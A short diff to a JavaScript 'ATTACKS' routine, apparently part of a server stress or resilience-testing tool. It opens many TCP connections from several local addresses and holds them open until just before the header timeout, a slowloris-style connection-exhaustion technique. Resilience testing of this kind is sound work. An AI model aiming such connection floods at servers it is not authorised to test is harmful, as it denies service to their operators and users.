@@ -94,8 +94,11 @@ const ATTACKS = {
     await atRate(SILENT / 4, 4, async (n) => {
       const socket = connect({ host: hostname, port: Number(port), localAddress: pick(addresses, n) });
       socket.on('error', () => {});
+      // What is not read is never seen to end.
+      socket.resume();
       sockets.push(socket);
     });
+    // Before the time for a head is over, which would end all of them.
     await pause((seconds - 4) * 1_000);
     const open = sockets.filter((socket) => socket.readyState === 'open').length;
     for (const socket of sockets) socket.destroy();
